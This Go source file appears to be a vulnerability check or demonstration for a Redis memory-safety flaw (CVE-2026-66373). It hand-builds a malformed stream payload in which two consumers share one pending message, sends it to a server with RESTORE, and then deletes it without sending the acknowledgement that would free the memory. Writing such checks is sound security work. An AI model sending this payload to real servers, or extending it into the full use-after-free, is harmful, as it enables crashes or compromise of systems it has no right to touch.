package demo

import (
	"encoding/binary"
	"hash/crc64"
	"slices"
	"strings"
)

// sharedMessageCVE is the one the show asks about: RESTORE believed a stream in
// which two consumers own the same pending message. XACK by one of them frees
// it, and leaves the other with a pointer to freed memory. The show never
// acknowledges: what is restored is looked at by nobody and deleted whole,
// which the old server does correctly.
const sharedMessageCVE = "CVE-2026-66373"

// sharedMessage is such a stream as DUMP would write it: redis's rdb.c, type
// RDB_TYPE_STREAM_LISTPACKS_2 of RDB version 10.
func sharedMessage() string {
	id := "\x00\x00\x00\x00\x00\x00\x00\x01" + strings.Repeat("\x00", 8) // 1-0
	const when = "\x00\x68\xe5\xcf\x8b\x01\x00\x00"                      // ms since 1970, little-endian
	// One message, k = v: a listpack of 29 bytes under its id.
	entries := "\x1d\x00\x00\x00\x0a\x00\x01\x01\x00\x01\x01\x01\x81k\x02\x00\x01\x02\x01\x00\x01\x00\x01\x81v\x02\x04\x01\xff"
	var b strings.Builder
	b.WriteString("\x13\x01\x10" + id + "\x1d" + entries)
	b.WriteString("\x01" + "\x01\x00" + "\x01\x00" + "\x00\x00" + "\x01") // length, last id, first id, deleted id, ever added
	b.WriteString("\x01\x01g" + "\x01\x00" + "\x01")                      // one group, g: last id, entries read
	b.WriteString("\x01" + id + when + "\x01")                            // its one pending message
	b.WriteString("\x02")                                                 // its consumers
	for _, name := range []string{"alice", "bob"} {
		b.WriteString(string(rune(len(name))) + name + when + "\x01" + id) // who own one message each: the same
	}
	b.WriteString("\x0a\x00")
	return string(binary.LittleEndian.AppendUint64([]byte(b.String()), redisCRC([]byte(b.String()))))
}

// redisCRC is redis's crc64.c: Jones's polynomial, reflected, without the
// inversions that hash/crc64 makes before and after.
func redisCRC(data []byte) uint64 {
	return ^crc64.Update(^uint64(0), crc64.MakeTable(0x95ac9329ac4bc9b5), data)
}

// restoreSharedMessage asks the server to take the stream and returns what it
// says to that.
func restoreSharedMessage(addr string) (string, error) {
	c, err := dialRESP(addr)
	if err != nil {
		return "", err
	}
	defer c.Close()
	got, err := c.pipeline([]string{"DEL", "stream"}, []string{"RESTORE", "stream", "0", sharedMessage()}, []string{"DEL", "stream"}, []string{"PING"})
	if err != nil {
		return "", err
	}
	if !slices.Contains(got[3:], "+PONG") {
		return "", errWrongAnswer
	}
	return got[1], nil
}
